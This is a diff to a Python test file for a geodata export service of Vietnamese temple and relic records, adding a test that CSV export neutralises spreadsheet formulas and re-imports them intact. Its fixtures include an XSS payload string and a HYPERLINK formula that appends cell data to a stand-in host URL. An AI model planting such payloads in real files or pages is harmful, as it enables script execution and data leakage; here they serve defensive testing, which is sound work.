@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -13,6 +14,7 @@ import shapely
 from sqlalchemy import text
 
 from layers import REGISTRY
+from tests.importing import do_import
 
 FORMATS = ("gpkg", "shp", "kml", "csv", "geojson")
 HOSTILE = '<img src=x onerror="alert(1)">Đình <b>Hành Thiện</b>'
@@ -225,7 +227,7 @@ def test_csv_has_bom_wkt_or_lonlat_and_vietnamese_text(client, engine, tmp_path)
     assert header.endswith('"wkt"')
     response = client.get("/export/relics?format=csv&geometry=lonlat")
     body = response.data.decode("utf-8-sig")
-    rows = list(__import__("csv").DictReader(io.StringIO(body)))
+    rows = list(csv.DictReader(io.StringIO(body)))
     with engine.connect() as conn:
         points = {r.id: (r.x, r.y, r.name) for r in conn.execute(text("SELECT id, ST_X(geom) x, ST_Y(geom) y, name FROM relics"))}
     assert len(rows) == len(points)
@@ -233,6 +235,28 @@ def test_csv_has_bom_wkt_or_lonlat_and_vietnamese_text(client, engine, tmp_path)
         x, y, name = points[int(row["id"])]
         assert abs(float(row["longitude"]) - x) < 1e-9 and abs(float(row["latitude"]) - y) < 1e-9
         assert row["name"] == name
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Đền")', "+84 912 000 000", "-", "@SUM(1)"]
+
+
+def test_csv_text_that_a_spreadsheet_would_run_is_marked_as_text_and_reimports_as_it_was(client, committed, conn, tmp_path):
+    ids = {
+        committed("relics", "name, kind, rank, geom", ":name, 'temple', 'provincial', ST_SetSRID(ST_MakePoint(106.17, 20.43), 4326)",
+                  {"name": name}): name
+        for name in [*FORMULAS, "Đền = Trần"]
+    }
+    _, path = download(client, "/export/relics?format=csv", tmp_path, "relics.csv")
+    rows = {int(r["id"]): r for r in csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig")))}
+    for feature_id, name in ids.items():
+        assert rows[feature_id]["name"] == (name if name == "Đền = Trần" else "'" + name)
+    assert rows[feature_id]["wkt"].startswith("POINT")
+
+    before = conn.execute(text("SELECT max(id) FROM relics")).scalar_one()
+    report = do_import(conn, "relics", path)
+    assert report.committed and report.rejected == []
+    imported = conn.execute(text("SELECT name FROM relics WHERE id > :b AND name = ANY(:n)"), {"b": before, "n": list(ids.values())})
+    assert sorted(imported.scalars()) == sorted(ids.values())
 
 
 def test_geojson_is_rfc7946_with_metadata(client, tmp_path):
